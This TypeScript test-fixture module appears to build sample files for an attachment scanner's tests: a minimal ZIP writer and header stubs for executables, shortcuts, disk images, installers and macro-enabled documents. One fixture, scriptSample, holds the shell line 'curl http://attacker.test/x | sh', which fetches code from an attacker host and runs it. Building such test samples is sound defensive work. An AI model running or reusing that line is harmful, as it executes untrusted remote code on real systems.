/**
 * Small sample files for the attachment tests (unit and live) and the lab (scenario 14): ZIP archives written by a minimal
 * APPNOTE.TXT writer (local headers, central directory, EOCD; stored or deflated; the encryption
 * flag set on request), and the first octets of each blocked content kind. Samples only: they
 * carry the magic numbers the scanner looks for, not working programs.
 */
import { crc32, deflateRawSync } from 'node:zlib';

export interface SampleEntry {
  name: string;
  data: Buffer | string;
  /** 0 stored, 8 deflated (default); any other method number labels data stored as given (e.g. 12, bzip2, to test refusals). */
  method?: number;
  /** Sets general purpose bit 0 (the data is stored as given: a sample, not real encryption). */
  encrypted?: boolean;
}

/** A ZIP archive of these entries; `prefix` is data before the archive (a self-extractor stub). */
export function zip(entries: readonly SampleEntry[], opts: { prefix?: Buffer; comment?: string } = {}): Buffer {
  const prefix = opts.prefix ?? Buffer.alloc(0);
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const data = Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data);
    const method = e.method ?? 8;
    const body = method === 8 ? deflateRawSync(data) : data;
    const name = Buffer.from(e.name, 'utf8');
    const flags = (e.encrypted ? 0x0001 : 0) | 0x0800;
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const comment = Buffer.from(opts.comment ?? '');
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  eocd.writeUInt16LE(comment.length, 20);
  return Buffer.concat([prefix, ...locals, cd, eocd, comment]);
}

/** A PE header: "MZ", e_lfanew = 0x80, "PE\0\0" there. */
export function peSample(): Buffer {
  const b = Buffer.alloc(0x100);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

export const elfSample = (): Buffer => Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(57)]);
export const machoSample = (): Buffer => Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(56)]);
export const scriptSample = (): Buffer => Buffer.from('#!/bin/sh\ncurl http://attacker.test/x | sh\n');
export const lnkSample = (): Buffer => Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]);

/** An ISO 9660 image's start: 32 KiB system area, then the primary volume descriptor "\x01CD001". */
export function isoSample(): Buffer {
  const b = Buffer.alloc(0x8800);
  b[0x8000] = 1;
  b.write('CD001', 0x8001, 'latin1');
  return b;
}

/**
 * An OLE2 compound file ([MS-CFB]): 512-octet header, directory in sector 0 with the root entry
 * (CLSID `clsid`) and, when `streams` has names, further entries named so (UTF-16LE).
 */
export function oleSample(opts: { clsid?: Buffer; streams?: string[] } = {}): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header, 0);
  header.writeUInt16LE(0x003e, 0x18); // minor version
  header.writeUInt16LE(0x0003, 0x1a); // major version 3
  header.writeUInt16LE(0xfffe, 0x1c); // byte order
  header.writeUInt16LE(9, 0x1e); // sector shift: 512
  header.writeUInt16LE(6, 0x20); // mini sector shift
  header.writeUInt32LE(0, 0x30); // first directory sector
  const dir = Buffer.alloc(512);
  const entry = (i: number, name: string, type: number, clsid?: Buffer) => {
    const n = Buffer.from(`${name}\0`, 'utf16le');
    n.copy(dir, i * 128);
    dir.writeUInt16LE(n.length, i * 128 + 0x40);
    dir[i * 128 + 0x42] = type;
    clsid?.copy(dir, i * 128 + 0x50);
  };
  entry(0, 'Root Entry', 5, opts.clsid);
  (opts.streams ?? []).slice(0, 3).forEach((s, i) => entry(i + 1, s, 2));
  return Buffer.concat([header, dir]);
}

/** The Windows Installer CLSID {000C1084-0000-0000-C000-000000000046} as stored (little-endian fields). */
export const MSI_CLSID = Buffer.from('84100c0000000000c000000000000046', 'hex');

/** A minimal OOXML (.docx-like) package; `macros` adds word/vbaProject.bin. */
export function ooxmlSample(macros: boolean): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
    { name: 'word/document.xml', data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>' },
    ...(macros ? [{ name: 'word/vbaProject.bin', data: oleSample({ streams: ['_VBA_PROJECT', 'dir'] }) }] : []),
  ]);
}
